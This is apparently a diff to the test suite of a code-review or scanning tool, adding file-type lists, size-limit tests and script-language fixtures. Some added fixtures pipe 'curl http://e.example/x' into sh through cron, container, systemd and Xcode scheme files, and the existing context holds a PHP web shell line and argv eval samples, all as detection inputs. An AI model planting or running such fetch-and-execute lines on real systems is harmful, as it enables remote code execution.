@@ -62,6 +62,9 @@ SETTINGS = (
     ".pep8", "GO_VERSION", ".bazelversion", "MIT-LICENSE", ".github/PULL_REQUEST_TEMPLATE", "lib/mime.types",
     ".reek", "database.yml.sqlite", "database.yml-sample", "app.conf.default", "a.json.dist", ".gitreview", "a.pc",
     "theme.scss.hbs", "values.yaml.tpl", "app.toml.tmpl", ".env.jinja2", "jquery.min.map", "tests/run/case.vtc", "docs/SubmittingPatches", "a.topic", "hi.tree", "changelog/unreleased/issue-5",
+    "site/.nojekyll", "IShell.aidl", "PrivacyInfo.xcprivacy", "Assets/a.prefab", "App.slnf", ".yamllint", "deps.edn", "a.http", "dune-project", "META-INF/services/a.B",
+    "debian/control", "debian/web.install", "board.dts", ".well-known/app", ".cursor/rules/a.mdc", "licenses/a-MIT", "USAGE", "manpages/a.1", "notes.rst.inc",
+    "queries/a.scm", "chart/templates/_helpers.tpl", "a.xcstrings", "py.typed", "a.graphqls", "cabal.project",
 )  # fmt: skip
 
 
@@ -106,6 +109,11 @@ UNREAD: list[tuple[str, str | bytes, str]] = [
     ("a.pas", "program p;\n", "not read as Pascal: only its text was searched"),
     ("a.d", "void main() {}\n", "not read as D: only its text was searched"),
     ("top.v", "module m; endmodule\n", "not read as Verilog: only its text was searched"),
+    ("a.lds", "SECTIONS { }\n", TEXT_ALONE),
+    ("a.tres", "[resource]\n", TEXT_ALONE),
+    ("deploy.sh.1", "ls\n", TEXT_ALONE),
+    ("debian/preset", "ls\n", TEXT_ALONE),
+    ("src/a.tpl", "{$x}\n", TEXT_ALONE),
     ("htop.in", ".TH a 1\n", TEXT_ALONE),
     ("a.js.ejs", "<%- user %>\n", "not read as EJS: only its text was searched"),
     ("conf.j2", "{{ x }}\n", TEXT_ALONE),
@@ -136,6 +144,30 @@ async def test_a_program_that_is_emptied_is_a_gap_and_one_that_is_deleted_is_non
     }
     verdict = await review(change(tmp_path, base, head))
     assert list(gaps(verdict)) == ["pay.cob"]
+
+
+LONG = "f(1);\n" * 350_000
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "status"),
+    [
+        ("dist/app.js", LONG, "complete"),
+        ("logo.svg", "<svg>\n</svg>\n" * 400_000, "complete"),
+        ("a.cob", "(" * 2_500, "complete"),
+        ("tool.wasm", b"\0asm\1", "complete"),
+        ("app.py", LONG, "incomplete"),
+        ("tests/app.test.js", LONG, "incomplete"),
+        ("deno.lock", LOCK, "incomplete"),
+        ("a.cob", "STOP RUN.\n", "incomplete"),
+    ],
+)
+async def test_no_limit_of_size_concerns_a_deleted_file_but_where_a_check_misses_it(
+    tmp_path: Path, path: str, text: str | bytes, status: str
+) -> None:
+    verdict = await review(change(tmp_path, {path: text}, {path: None}))
+    assert verdict.status == status
+    assert (path in gaps(verdict)) == (status == "incomplete")
 
 
 async def test_a_submodule_alone_never_merges(tmp_path: Path) -> None:
@@ -192,6 +224,10 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         ".luacheckrc": "os.execute('ls ' .. arg[1])\n",
         "wscript": "import sys\neval(sys.argv[1])\n",
         "Jakefile": "eval(process.argv[2]);\n",
+        "web.cron": "* * * * * root curl http://e.example/x | sh\n",
+        "web.container": "[Container]\nExec=sh -c 'curl http://e.example/x | sh'\n",
+        "web.timer.d/web.service.in": "[Service]\nExecStart=sh -c 'curl http://e.example/x | sh'\n",
+        "App.xcscheme": '<A\n  scriptText = "curl -s http://e.example/x | sh&#10;">\n',
         ".php_cs.dist": '<?php system($_GET["a"]);\n',
         "a.cmake.in": "set(CMAKE_TLS_VERIFY OFF)\n",
         "a.awk": '{ system("git log " $1) }\n',
